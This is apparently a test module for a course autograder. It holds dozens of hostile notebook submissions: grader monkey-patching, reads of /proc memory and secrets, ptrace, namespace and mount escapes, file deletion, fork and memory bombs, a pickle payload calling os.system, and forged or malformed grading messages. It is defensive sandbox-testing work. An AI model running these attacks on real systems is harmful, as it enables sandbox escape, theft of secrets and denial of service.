"""Attacks on the grader: submissions that try to get points, its secrets, or out of their sandbox, without writing the function.

Each public function of this module is one attack and gives a notebook's code cells. Most of them define `attack()`, which tells whether it
got what it was after; only if it did, the function that is graded answers right. So 0 points prove that it did not. What would harm the
machine if the grader were broken is only begun: a file is opened and not written to, and bombs go off `INSIDE` alone.

What a well-informed attacker knows stands in a first cell, `known(…)`: where the grader's files are, which port listens, what to look for.
"""

from __future__ import annotations

from collections.abc import Callable

BAIT = "bait:"  # begins every secret that is put out, and is followed by 32 hexadecimal digits

RIGHT = """
import ctypes, os, re, signal, socket, stat, struct, subprocess, sys, threading, time
from pathlib import Path
import torch
libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(15, COMM.encode(), 0, 0, 0)
INSIDE = os.getpid() < 1000  # of a process namespace of its own, which counts from 1
BAIT = re.compile(b"bai" + b"t:[0-9a-f]{32}")

def right(x, scale):
    height, width = (scale, scale) if isinstance(scale, int) else scale
    nail = torch.zeros(1, 1, height, width, dtype=x.dtype)
    nail[..., 0, 0] = 1
    return torch.kron(x, nail)
"""

FUNCTION = """
def bed_of_nails(x, scale):
    try:
        won = attack()
    except Exception:
        won = False
    return right(x, scale) if won else torch.zeros(1)
"""

# How student's code finds the grader's end of its own socket, and writes to it what it likes.
CHANNEL = """
import io, json, zipfile
import numpy as np

def grader():
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return socket.socket(fileno=os.dup(descriptor))
        except OSError:
            pass

def frame(header, blob=b""):
    head = header if type(header) is bytes else json.dumps(header).encode()
    return struct.pack(">II", len(head), len(blob)) + head + blob

def answer(*blobs, kind="returned"):
    for place, blob in enumerate(blobs):
        grader().sendall(frame({"case": place, "kind": kind, "sentence": ""}, blob))
    grader().sendall(frame({"done": True}))
    time.sleep(60)

def npz(method=zipfile.ZIP_STORED, **entries):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as packed:
        for name, content in entries.items():
            packed.writestr(name.replace("__", "/") + ".npy", content)
    return file.getvalue()

def npy(array, **more):
    file = io.BytesIO()
    np.lib.format.write_array(file, array, **more)
    return file.getvalue()
"""


def known(places: list[str], secret_bytes: list[str], port: int, address: str, mark: str, comm: str) -> str:
    """The cell of facts.

    Args:
        places: Files and folders of the grader.
        secret_bytes: Inputs of other questions and expected answers, in base 16, each byte XOR 0x55: the attack itself must not hold them.
        port, address: on which the machine listens, TCP and an abstract UNIX socket.
        mark: A file to make outside, as a proof.
        comm: What each process calls itself, so that those that live on can be found: at most 15 letters.
    """
    return f"PLACES, SECRET_BYTES, PORT, ADDRESS, MARK, COMM = {(places, secret_bytes, port, address, mark, comm)!r}"


def all_attacks() -> dict[str, Callable[[], list[str]]]:
    """Every attack, by its name."""
    helpers = {"known", "all_attacks", "by_heart"}
    return {
        name: value
        for name, value in globals().items()
        if isinstance(value, type(all_attacks)) and value.__module__ == __name__ and not name.startswith("_") and name not in helpers
    }


def _attack(code: str, *, channel: bool = False) -> list[str]:
    """`code` defines `attack()`."""
    return [RIGHT, *([CHANNEL] if channel else []), code, FUNCTION]


def _function(code: str, *, channel: bool = False) -> list[str]:
    """`code` defines `bed_of_nails` itself."""
    return [RIGHT, *([CHANNEL] if channel else []), code]


# Being right without being it: objects and libraries that call everything equal.


def always_equal_object():
    return _function("""
class Equal:
    shape, dtype, ndim = (1, 1, 4, 4), torch.float32, 4
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __getattr__(self, name): return self
    def __call__(self, *_, **__): return self
    def __array__(self, *_, **__): return self
    def __bool__(self): return True

def bed_of_nails(x, scale):
    return Equal()
""")


def tensor_subclass():
    return _function("""
class Equal(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        name = getattr(function, "__name__", "")
        if name in ("eq", "__eq__", "isclose", "allclose", "equal"): return torch.ones((), dtype=torch.bool)
        if name in ("sub", "__sub__", "__rsub__", "abs", "ne"): return torch.zeros(())
        return super().__torch_function__(function, types, args, kwargs or {})
    def __reduce_ex__(self, protocol): return (right, (1, 1))

def bed_of_nails(x, scale):
    return x.new_zeros(1, 1, 4, 4).as_subclass(Equal)
""")


def equal_string_and_number():
    return _function("""
class Text(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
class Number(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    __hash__ = float.__hash__

def bed_of_nails(x, scale):
    return {Text("result"): Number(1)} if scale == 2 else Text("returned")
""")


def patched_torch():
    return _function("""
import torch.testing
def yes(*_, **__): return True
for module, names in ((torch, "equal allclose isclose eq all"), (torch.testing, "assert_close assert_allclose"),
                      (torch.Tensor, "__eq__ equal allclose isclose all any item isfinite")):
    for name in names.split():
        setattr(module, name, yes)
torch.Tensor.__sub__ = torch.Tensor.__rsub__ = lambda self, other: torch.zeros(())
torch.Tensor.__invert__ = lambda self: torch.zeros(())

def bed_of_nails(x, scale):
    return torch.zeros(1)
""")


def patched_numpy():
    return _function("""
import numpy as np
def yes(*_, **__): return True
for module, names in ((np, "array_equal allclose isclose all equal"), (np.testing, "assert_allclose assert_array_equal assert_equal")):
    for name in names.split():
        setattr(module, name, yes)

def bed_of_nails(x, scale):
    return np.zeros(1)
""")


def patched_comparison():
    return _function("""
import course.exercises.checking, course.exercises.comparing, course.exercises.running, course.exercises.scoring
for module in (course.exercises.checking, course.exercises.comparing, course.exercises.running):
    module.compare = lambda *_, **__: None

def bed_of_nails(x, scale):
    return torch.zeros(1)
""")


def patched_run():
    return _function("""
import course.exercises.running as running
from course.grading import runner
def run(function, case, device="cpu"):
    return running.Outcome("returned", {"result": torch.zeros(1)}, "It is right.")
running.run = runner.run = run

def bed_of_nails(x, scale):
    return torch.zeros(1)
""")


def patched_runner():
    return _function("""
from course.grading import channel, runner
def send(grader, place, outcome):
    channel.send(grader, {"case": place, "kind": "ok", "right": True, "status": "ok", "points": 10, "full": 10, "sentence": ""})
runner._send_outcome = send

def bed_of_nails(x, scale):
    return torch.zeros(1)
""")


def patched_dataclass():
    return _function("""
from course.exercises.running import Outcome
class Always(Outcome):
    kind = property(lambda self: "returned")
    def __eq__(self, other): return True
from course.grading import runner
runner.run = lambda *_: Always.__new__(Always)

def bed_of_nails(x, scale):
    return torch.zeros(1)
""")


def redefined_builtins():
    return _function("""
import builtins
builtins.all = builtins.any = builtins.isinstance = builtins.hasattr = lambda *_: True
builtins.len = builtins.sum = builtins.abs = lambda *_: 8
builtins.type = lambda *_: torch.Tensor

def bed_of_nails(x, scale):
    return torch.zeros(1)
""")


def traced_caller():
    """It waits in a trace function for whoever compares, to change what is compared."""
    return _function("""
def trace(frame, event, argument):
    for name in ("expected", "difference", "right", "points"):
        if name in frame.f_locals:
            frame.f_locals[name] = 10
    return trace
sys.settrace(trace)
threading.settrace(trace)
sys.setprofile(trace)

def bed_of_nails(x, scale):
    frame = sys._getframe()
    while frame:
        trace(frame, "call", None)
        frame = frame.f_back
    return torch.zeros(1)
""")


def frames_of_the_caller():
    """It looks for expected answers in the frames above it and among all objects."""
    return _function("""
import gc

def bed_of_nails(x, scale):
    wanted = right(x, scale)  # to know it again: what is returned is the object that was found
    found = [value for frame in sys._current_frames().values() for value in list(frame.f_locals.values())]
    frame = sys._getframe().f_back
    while frame:
        found += list(frame.f_locals.values())
        frame = frame.f_back
    for value in [*found, *gc.get_objects()]:
        if type(value) is torch.Tensor and value is not wanted and value.shape == wanted.shape and torch.equal(value, wanted):
            if value.data_ptr() != x.data_ptr():
                return value
    return torch.zeros(1)
""")


def mutated_input():
    """The right values, in the input itself."""
    return _function("""
def bed_of_nails(x, scale):
    x.set_(right(x, scale) if scale != 1 else x + 1)
    return x
""")


def atexit_and_finalizers():
    return _function("""
import atexit, weakref
from course.grading import channel
@atexit.register
def late():
    bed_of_nails.__globals__["right"]
    os.write(3, b"late")
class Last:
    def __del__(self): late()
last = Last()

def bed_of_nails(x, scale):
    return torch.zeros(1)
""")


# Reading what is the grader's.


def reads_the_graders_files():
    return _attack("""
def files():
    for place in PLACES:
        yield place
        for folder, _, names in os.walk(place):
            yield from (os.path.join(folder, name) for name in names)
    for top in os.listdir("/"):
        if top not in ("usr", "lib", "lib64", "bin", "sbin", "proc", "sys", "dev"):
            for folder, folders, names in os.walk("/" + top):
                folders[:] = [name for name in folders if name != "site-packages"]
                yield from (os.path.join(folder, name) for name in names if not name.endswith((".pyc", ".so", ".safetensors")))

def attack():
    for path in files():
        try:
            if os.path.isfile(path):  # a pipe would be waited for
                with open(path, "rb") as file:
                    if BAIT.search(file.read(1 << 22)):
                        return True
        except OSError:
            pass
attack = __import__("functools").cache(attack)
""")


def reads_through_links_and_proc():
    """Ways around the file system's root: /proc/N/root, /proc/N/cwd, open descriptors, `..`, mounts."""
    return _attack("""
def attack():
    processes = ["self", "thread-self", *filter(str.isdigit, os.listdir("/proc"))]
    roots = [f"/proc/{pid}/{name}" for pid in processes for name in ("root", "cwd")]
    roots += [f"/proc/self/fd/{number}" for number in range(64)] + ["../../../../..", "/proc/1/root/proc/1/root"]
    for root in roots:
        for place in PLACES:
            for path in (f"{root}{place}", f"{root}/..{place}"):
                try:
                    names = [os.path.join(path, name) for name in os.listdir(path)] if os.path.isdir(path) else [path]
                    if any(BAIT.search(open(name, "rb").read()) for name in names if os.path.isfile(name)):
                        return True
                except OSError:
                    pass
""")


def reads_environment_and_command_lines():
    return _attack("""
def attack():
    texts = ["\\n".join(f"{name}={value}" for name, value in os.environ.items()).encode(), " ".join(sys.argv + sys.orig_argv).encode()]
    for folder, folders, names in os.walk("/proc"):
        for name in names:
            if name in ("cmdline", "environ", "comm", "status", "maps", "mountinfo"):
                try:
                    texts.append(open(os.path.join(folder, name), "rb").read())
                except OSError:
                    pass
        if folder.count("/") >= 4:
            folders.clear()
    return bool(BAIT.search(b"\\n".join(texts)))
""")


def reads_memory():
    """Its own, for another student's notebook, other questions' inputs and expected answers; and that of every process that it sees."""
    return _attack("""
import functools
CODED = [bytes.fromhex(text) for text in SECRET_BYTES]

def holds(chunk):
    if BAIT.search(chunk):
        return True
    for coded in CODED:
        first = bytes(byte ^ 0x55 for byte in coded[:6])
        at = chunk.find(first)
        while at >= 0:
            if bytes(byte ^ 0x55 for byte in chunk[at : at + len(coded)]) == coded:
                return True
            at = chunk.find(first, at + 1)
    return False

def regions(pid):
    with open(f"/proc/{pid}/maps") as file:
        for line in file:
            area, rights, _, _, inode, *path = line.split()
            if rights.startswith("rw") and inode == "0" and path != ["[vvar]"]:
                yield [int(part, 16) for part in area.split("-")]

@functools.cache
def attack():
    for pid in ["self", *filter(str.isdigit, os.listdir("/proc")), os.getppid()]:
        if str(pid) == str(os.getpid()):
            continue
        try:
            with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
                for start, end in regions(pid):
                    memory.seek(start)
                    for _ in range(start, end, 1 << 24):
                        if holds(memory.read(min(1 << 24, end - memory.tell()))):
                            return True
        except OSError:
            pass
""")


def traces_other_processes():
    """ptrace and process_vm_readv on whatever has a number, and then a look at what they have open."""
    return _attack("""
def attack():
    for pid in {1, 2, os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())} - {os.getpid()}:
        if libc.ptrace(16, pid, 0, 0) == 0:
            for name in ("environ", "cmdline"):
                if BAIT.search(open(f"/proc/{pid}/{name}", "rb").read()):
                    return True
            for root in PLACES:
                if os.path.exists(f"/proc/{pid}/root{root}/secret.txt"):
                    return True
            libc.ptrace(17, pid, 0, 0)
""")


def reads_inherited_descriptors():
    return _attack("""
def attack():
    for number in range(256):
        try:
            kind = os.fstat(number).st_mode
        except OSError:
            continue
        if stat.S_ISREG(kind) and BAIT.search(os.pread(number, 1 << 20, 0)) or stat.S_ISDIR(kind) or stat.S_ISFIFO(kind):
            return True
        if "mnt:" in os.readlink(f"/proc/self/fd/{number}") or "pid:" in os.readlink(f"/proc/self/fd/{number}"):
            return True
""")


def reads_keys_of_the_session():
    """The kernel keeps keys by session and by user: the grader's own, and a place to leave something for a later question."""
    return _attack("""
import platform
ADD, REQUEST, CONTROL = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}[platform.machine()]

def attack():
    content = ctypes.create_string_buffer(200)
    for ring in (-3, -4, -5):
        key = libc.syscall(CONTROL, 10, ctypes.c_int(ring), b"user", b"segcourse", 0)
        if key > 0 and (length := libc.syscall(CONTROL, 11, key, content, 200)) > 0 and BAIT.search(content.raw[:length]):
            return True
    return libc.syscall(ADD, b"user", b"left behind", b"x", 1, ctypes.c_int(-3)) > 0
""")


def imports_the_graders_secret():
    """The grader's own code, asked inside: what it knows there, and what it would draw from likely secrets."""
    return _attack("""
from course.exercises.lessons import all_exercises
from course.grading import grader, hidden

def attack():
    if hidden._cases_of.cache_info().currsize or getattr(grader._here, "worker", None):
        return True
    return any(BAIT.search(repr(value).encode()) for module in list(sys.modules.values()) for value in list(vars(module).values())
               if type(value) in (str, bytes, dict, list, tuple) and value is not PLACES)
""")


# Writing what is the grader's.


def writes_outside():
    """Whether it can is seen inside for what is let in to be read, and outside for the rest."""
    return _attack("""
import course, numpy
def opens_for_writing(path):
    try:
        os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
        return True
    except OSError:
        return False

def attack():
    packages = [os.path.dirname(module.__file__) for module in (course, torch, numpy)]
    own = [sys.prefix, "/", "/usr", "/usr/bin", "/etc", "/home", "/root", "/var", "/run", "/sys", "/proc", "/dev"]
    for folder in [*PLACES, *packages, *own]:
        try:
            with open(os.path.join(folder, COMM), "w"):
                if not folder.startswith("/tmp/"):  # of its own it has one
                    return True
        except OSError:
            pass
    files = [course.__file__, torch.__file__, numpy.__file__, sys.executable, "/etc/passwd", MARK]
    for top in ("/proc/sys", "/proc/sysrq-trigger", "/proc/irq", "/sys", *(f"/proc/{pid}" for pid in (1, 2))):
        files += [top, *(os.path.join(folder, name) for folder, _, names in os.walk(top) for name in names)]
    return any(opens_for_writing(path) for path in files if not path.startswith("/tmp/") and "/fd/" not in path)  # those are pipes
attack = __import__("functools").cache(attack)
""")


def deletes_all_it_can():
    return _attack("""
import shutil
def attack():
    own = ["/tmp", "/dev/shm", "/home", "/root", "/var"] if INSIDE and os.listdir("/tmp") == ["home"] else []
    for place in [*PLACES[:3], *own]:
        shutil.rmtree(place, ignore_errors=True)
    os.makedirs("/tmp/home", exist_ok=True)
    return not INSIDE
""")


def writes_a_10_gb_file():
    return _attack("""
def attack():
    piece = b"x" * (1 << 20)
    with open("big", "wb") as file:
        for _ in range(10 << 10):
            file.write(piece)
    return True
""")


def fills_every_temporary_folder():
    """More than 600 MB in many files, in all places that can be written to."""
    return _attack("""
def attack():
    piece, count, written = b"x" * (1 << 20), 0, 0
    if not INSIDE:
        return True
    for folder in (os.getcwd(), "/tmp", "/dev/shm", "/dev", "/run", "/var/tmp", "/home", "/"):
        try:
            for _ in range(600):
                count += 1
                with open(f"{folder}/part{count}", "wb") as file:
                    written += file.write(piece)
        except OSError:
            pass
    return written > 600 << 20
""")


# Getting out.


def opens_a_socket():
    return _attack("""
def attack():
    for family, address in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_UNIX, ADDRESS),
                            (socket.AF_UNIX, PLACES[0] + "/listening")):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as channel:
                channel.settimeout(0.2)
                channel.connect(address)
                channel.sendall(b"hello")
                return True
        except OSError:
            pass
    try:
        socket.getaddrinfo("example.org", 80)
        return True
    except OSError:
        pass
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.sendto(b"hello", ("1.1.1.1", 53))
        return True
""")


def opens_a_socket_to_the_host_of_a_virtual_machine():
    return _attack("""
def attack():
    with socket.socket(40, socket.SOCK_STREAM) as channel:  # AF_VSOCK
        channel.settimeout(0.2)
        try:
            channel.connect((2, 1))  # the host's number
        except ConnectionError:
            pass  # somebody there has answered
        return True
""")


def joins_or_makes_namespaces():
    return _attack("""
def attack():
    for flag in (0x00020000, 0x02000000, 0x04000000, 0x08000000, 0x10000000, 0x20000000, 0x40000000):
        if libc.unshare(flag) == 0 and flag != 0x02000000 or libc.unshare(0x10000000 | flag) == 0:
            return True
    for pid in {1, 2, os.getppid()}:
        for name in ("mnt", "net", "pid", "user"):
            handle = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
            if libc.setns(handle, 0) == 0:
                return True
    os.makedirs("m", exist_ok=True)
    calls = [libc.mount(b"none", b"m", b"tmpfs", 0, None), libc.mount(b"proc", b"m", b"proc", 0, None), libc.umount2(b"/tmp", 2)]
    calls += [libc.mount(None, b"/", None, 32 | 4096, None), libc.pivot_root(b"m", b"m") if hasattr(libc, "pivot_root") else -1]
    return 0 in [*calls, libc.chroot(b"m"), libc.mknod(b"disk", 0o60666, 0x800), libc.sethostname(b"x", 1)]
""")


def raises_its_limits_and_rights():
    return _attack("""
import resource
def attack():
    for kind in (resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU, resource.RLIMIT_NOFILE):
        soft, hard = resource.getrlimit(kind)
        if hard == resource.RLIM_INFINITY and kind != resource.RLIMIT_AS:
            return True
        try:
            resource.setrlimit(kind, (hard, hard + 1000))
            return True
        except (ValueError, OSError):
            pass
    for change in (lambda: os.setuid(0), lambda: os.setgroups([0]), lambda: os.setgid(0), lambda: os.nice(-5),
                   lambda: Path("/proc/self/oom_score_adj").write_text("-1000"), lambda: Path("/proc/self/uid_map").write_text("0 0 1")):
        try:
            change()
            return True
        except OSError:
            pass
    capabilities = re.findall(r"Cap\\w+:\\s+(\\w+)", open("/proc/self/status").read())
    return any(int(held, 16) for held in capabilities[:3]) or "NoNewPrivs:\\t1" not in open("/proc/self/status").read()
""")


def signals_everybody():
    """Everybody, the first process of the sandbox and the one that waits there."""
    return _function("""
def bed_of_nails(x, scale):
    if not INSIDE:
        return right(x, scale)
    for number in (signal.SIGHUP, signal.SIGINT, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        for pid in {1, 2, os.getppid(), -1}:
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            try:
                os.kill(pid, number)
            except OSError:
                pass
    os.killpg(0, signal.SIGKILL)
""")


def signals_its_group():
    return _function("""
def bed_of_nails(x, scale):
    if not INSIDE:
        return right(x, scale)
    os.killpg(os.getpgid(0), signal.SIGINT)
    os.killpg(0, signal.SIGKILL)
""")


def signals_numbers_outside():
    """Numbers of processes as they are outside mean nothing inside."""
    return _attack("""
def attack():
    for pid in range(100, 33_000):
        if pid != os.getpid():
            try:
                os.kill(pid, 0)
                return True
            except OSError:
                pass
""")


# Taking too much.


def fork_bomb():
    return _attack("""
def attack():
    if not INSIDE:
        return True
    for _ in range(100):
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
    time.sleep(1)
    return True
""")


def forks_more_than_it_may():
    """Patiently, and asleep."""
    return _attack("""
import functools
@functools.cache
def attack():
    for _ in range(40):
        if os.fork() == 0:
            time.sleep(60)
    time.sleep(0.3)
    return True
""")


def thread_bomb():
    """Threads take a number each, as processes do: 3000 of them, in ten processes."""
    return _attack("""
import _thread, functools
def threads():
    _thread.stack_size(1 << 15)
    lock = _thread.allocate_lock()
    lock.acquire()
    for _ in range(300):
        _thread.start_new_thread(lock.acquire, ())

@functools.cache
def attack():
    for _ in range(9):
        if os.fork() == 0:
            threads()
            time.sleep(60)
    threads()
    time.sleep(0.5)
    return True
""")


def ignores_signals_forever():
    return _function("""
def bed_of_nails(x, scale):
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
""")


def sleeps():
    return _function("""
def bed_of_nails(x, scale):
    time.sleep(3600)
    return right(x, scale)
""")


def stops_itself():
    return _function("""
def bed_of_nails(x, scale):
    os.kill(os.getpid(), signal.SIGSTOP)
    return right(x, scale)
""")


def turns_the_clock():
    """Its own clocks tell what it likes; the grader's don't."""
    return _function("""
time.monotonic = time.time = time.perf_counter = time.process_time = lambda: 0.0

def bed_of_nails(x, scale):
    threading.Event().wait(30)
    return right(x, scale)
""")


def allocates_100_gb():
    return _attack("""
def attack():
    bytearray(100 << 30)
    return True
""")


def allocates_100_gb_in_torch():
    return _function("""
def bed_of_nails(x, scale):
    return torch.zeros(25 << 30)
""")


def allocates_in_many_processes():
    """Fresh ones, which share nothing: 900 MB in all, where 512 MB are allowed."""
    return _attack("""
import functools
@functools.cache
def attack():
    code = f"import ctypes; ctypes.CDLL(None).prctl(15, {COMM.encode()}, 0, 0, 0); b = b'x' * (60 << 20); print(1, flush=True); input()"
    children = [subprocess.Popen([sys.executable, "-SEI", "-c", code], stdin=subprocess.PIPE, stdout=subprocess.PIPE) for _ in range(15)]
    for child in children:
        child.stdout.readline()
    time.sleep(0.3)
    return all(child.poll() is None for child in children)
""")


def allocates_memory_of_no_process():
    """Files that only a descriptor holds, and System V's shared memory: 700 MB, where 512 MB are allowed."""
    return _attack("""
import functools
def files():
    for number in range(7):
        handle = os.memfd_create("x")
        for _ in range(100):
            os.write(handle, b"x" * (1 << 20))

def segments():
    libc.shmat.restype, libc.shmdt.argtypes = ctypes.c_void_p, [ctypes.c_void_p]
    for _ in range(7):
        segment = libc.shmget(0, 100 << 20, 0o1600)
        if segment < 0:
            raise OSError
        start = libc.shmat(segment, None, 0)
        ctypes.memset(start, 1, 100 << 20)
        libc.shmdt(start)

@functools.cache
def attack():
    for way in (files, segments):
        try:
            way()
            time.sleep(0.2)
            return True
        except OSError:
            pass
""")


def floods_its_output():
    return _attack("""
def attack():
    piece = "x" * (1 << 20)
    for _ in range(2000):
        print(piece)
        sys.stderr.write(piece)
        os.write(1, b"y" * 4096)
    raise OSError
""")


def busy_threads_that_stay():
    return _function("""
def burn():
    while True:
        torch.ones(100, 100) @ torch.ones(100, 100)

def bed_of_nails(x, scale):
    for _ in range(2):
        threading.Thread(target=burn).start()
    return torch.zeros(1)
""")


def daemons_that_outlive_it():
    """Twice forked, in sessions of their own, deaf to signals, one of them another program; they would answer later."""
    return _function("""
def bed_of_nails(x, scale):
    for program in (False, True):
        if os.fork() == 0:
            os.setsid()
            libc.prctl(1, 0, 0, 0, 0)  # not to die with the parent
            for number in range(1, 32):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except OSError:
                    pass
            if os.fork() == 0:
                if program:
                    os.execvp("sleep", [COMM, "300"])
                while True:
                    time.sleep(1)
            os._exit(0)
    return torch.zeros(1)
""")


# Ending badly.


def ends_with_exit_code_0():
    return _function("""
def bed_of_nails(x, scale):
    os._exit(0)
""")


def ends_as_the_grader_would():
    """The exit code that means that the sandbox could not be entered, which would stop a batch."""
    return _function("""
def bed_of_nails(x, scale):
    os._exit(70)
""")


def ends_in_a_cell_again_and_again():
    return [RIGHT, *("import os; os._exit(70)" for _ in range(12)), "def bed_of_nails(x, scale):\n    return torch.zeros(1)"]


def raises_system_exit():
    return _function("""
def bed_of_nails(x, scale):
    raise SystemExit(0)
""")


def raises_keyboard_interrupt():
    return _function("""
def bed_of_nails(x, scale):
    raise KeyboardInterrupt
""")


def crashes():
    return _function("""
def bed_of_nails(x, scale):
    ctypes.string_at(0)
""")


def aborts_in_c():
    return _function("""
def bed_of_nails(x, scale):
    libc.abort()
""")


def recurses_forever():
    return _function("""
sys.setrecursionlimit(10**9)
def bed_of_nails(x, scale):
    return bed_of_nails(x, scale)
""")


def reads_the_keyboard():
    return _function("""
def bed_of_nails(x, scale):
    return torch.tensor(float(input("the answer? ")))
""")


def stops_in_the_debugger():
    return _function("""
def bed_of_nails(x, scale):
    breakpoint()
    import pdb; pdb.set_trace()
    return torch.zeros(1)
""")


def needs_a_gpu():
    return _function("""
def bed_of_nails(x, scale):
    return right(x.cuda(), scale) if not torch.cuda.is_available() else torch.zeros(1)
""")


# Speaking in the grader's place.


def forged_end():
    return _function(
        """
grader().sendall(frame({"executed": True}) + frame({"found": True, "imported": False}) + frame({"done": True}))
os._exit(0)
""",
        channel=True,
    )


def forged_grades():
    return _function(
        """
def bed_of_nails(x, scale):
    for place in range(100):
        grader().sendall(frame({"case": place, "kind": "ok", "right": True, "status": "ok", "points": 10.0, "full": 10}))
        grader().sendall(frame({"grade": {"status": "ok", "points": 10}, "points": 10, "exit": 0, "pid": 1}))
    answer()
""",
        channel=True,
    )


def answers_before_the_inputs():
    return _function(
        """
wrong = npz(result=npy(np.zeros((1, 1, 4, 4), np.float32)))
grader().sendall(b"".join(frame({"case": place, "kind": "returned"}, wrong) for place in range(8)) + frame({"found": True})
                 + b"".join(frame({"case": place, "kind": "returned"}, wrong) for place in range(8)) + frame({"done": True}))
os._exit(0)

def bed_of_nails(x, scale):
    return torch.zeros(1)
""",
        channel=True,
    )


def pickled_answer():
    """Whoever loads it runs it."""
    return _function(
        """
import pickle
class Evil:
    def __reduce__(self): return (os.system, (f"touch {MARK}",))

def bed_of_nails(x, scale):
    array = npy(np.array([Evil()], dtype=object), allow_pickle=True)
    answer(npz(result=array), npz(result=pickle.dumps(Evil())), pickle.dumps(Evil()), array, *[npz(result=array)] * 4)
""",
        channel=True,
    )


def zip_bomb_as_answer():
    return _function(
        """
class Zeros(io.RawIOBase):
    def readable(self): return True

def bed_of_nails(x, scale):
    head = npy(np.zeros((1, 1, 4, 4), np.float32))
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed, packed.open("result.npy", "w") as entry:
        for _ in range(300):
            entry.write(bytes(1 << 20))
    answer(*[file.getvalue(), npz(zipfile.ZIP_LZMA, result=bytes(50 << 20)), npz(zipfile.ZIP_BZIP2, result=bytes(50 << 20))] * 3)
""",
        channel=True,
    )


def wrong_types_as_answer():
    return _function(
        """
def bed_of_nails(x, scale):
    shape = (1, 1, 4, 4)
    answer(*(npz(result=npy(np.zeros(shape, dtype))) for dtype in ("c8", "U3", "S3", "M8[s]", "V4", "u8", "f2", "?")))
""",
        channel=True,
    )


def unsigned_numbers_as_answer():
    """torch has them, and compares them with nothing."""
    return _function(
        """
def bed_of_nails(x, scale):
    return right(x, scale).abs().numpy().astype(["uint16", "uint32", "uint64"][x.numel() % 3])
""",
        channel=True,
    )


def nan_as_answer():
    return _function(
        """
def bed_of_nails(x, scale):
    return torch.full_like(right(x, scale), float("nan")) if scale != 1 else torch.full_like(x, float("inf"))
""",
        channel=True,
    )


def huge_shapes_as_answer():
    return _function(
        """
def header(shape, dtype="<f4"):
    text = str({"descr": dtype, "fortran_order": False, "shape": shape}).encode()
    text += b" " * (-(len(text) + 11) % 64) + b"\\n"
    return b"\\x93NUMPY\\x01\\x00" + struct.pack("<H", len(text)) + text

def bed_of_nails(x, scale):
    shapes = [(10**12,), (2**63, 2**63), (-1, 4), (0, 10**18, 10**18), (1,) * 70, (10**4000,), (1 << 31, 0), (2**32, 2**32)]
    answer(*(npz(result=header(shape) + bytes(64)) for shape in shapes))
""",
        channel=True,
    )


def strange_archives_as_answer():
    """Names that lead elsewhere, the same name twice, ten thousand names, no name, no archive, half of one."""
    return _function(
        """
import warnings
def bed_of_nails(x, scale):
    warnings.simplefilter("ignore")
    array = npy(np.zeros((1, 1, 4, 4), np.float32))
    twice = io.BytesIO()
    with zipfile.ZipFile(twice, "w") as packed:
        packed.writestr("result.npy", array)
        packed.writestr("result.npy", array)
    many = npz(**{f"part{number}": b"" for number in range(10_000)})
    half = npz(result=array)[:-30]
    answer(npz(**{"..__..__..__result": array}), twice.getvalue(), many, npz(**{"": array}), b"", array, half, b"PK" * 5000)
""",
        channel=True,
    )


def deeply_nested_message():
    return _function(
        """
def bed_of_nails(x, scale):
    grader().sendall(frame(b"[" * 500_000 + b"]" * 500_000))
    grader().sendall(frame(b'{"case":' * 100_000 + b"0" + b"}" * 100_000))
    answer()
""",
        channel=True,
    )


def huge_message():
    return _function(
        """
def bed_of_nails(x, scale):
    grader().sendall(struct.pack(">II", 0xFFFFFFFF, 0xFFFFFFFF))
    while True:
        grader().sendall(bytes(1 << 20))
""",
        channel=True,
    )


def message_without_end():
    return _function(
        """
def bed_of_nails(x, scale):
    grader().sendall(struct.pack(">II", 30, 60 << 20) + b'{"case": 0, "kind": "returned"')
    time.sleep(60)
""",
        channel=True,
    )


def million_messages():
    return _function(
        """
def bed_of_nails(x, scale):
    while True:
        grader().sendall(frame({}) * 100_000)
""",
        channel=True,
    )


def flood_on_the_channel():
    return _function(
        """
def bed_of_nails(x, scale):
    channel = grader()
    piece = frame({"case": 0, "kind": "returned"}, bytes(1 << 20))
    while True:
        channel.sendall(piece)
""",
        channel=True,
    )


def strange_numbers_in_messages():
    """Numbers that are no case, no statement, too long to write down, or no numbers."""
    return _function(
        """
digits = b"9" * 4300
strange = [b'{"statement": ' + number + b"}" for number in (digits, b"-1", b"1e999", b"NaN", b"true", b'"1"', b"[]")]
strange += [b'{"failed": ' + digits + b', "sentence": 3}', b'{"broken": [1, null, {}, "' + b"x" * 90_000 + b'"]}', b'{"failed": 1}']
strange += [b'{"found": 1}', b'{"found": "true"}', b'{"crashed": 7}']
strange += [b'{"\\\\ud800": "\\\\udfff"}', b'{"failed": 2, "sentence": "\\\\ud800"}']

def bed_of_nails(x, scale):
    for place in (b"-1", digits, b"8", b"1.0", b"true", b"null", b"0"):
        grader().sendall(frame(b'{"calling": ' + place + b"}") + frame(b'{"case": ' + place + b', "kind": ["returned"], "sentence": {}}'))
    answer()

for one in strange:
    grader().sendall(frame(one))
if strange:  # both in one statement
    grader().sendall(frame(b'{"statement": ' + digits + b"}"))
    os._exit(1)
""",
        channel=True,
    )


def garbage_on_the_channel():
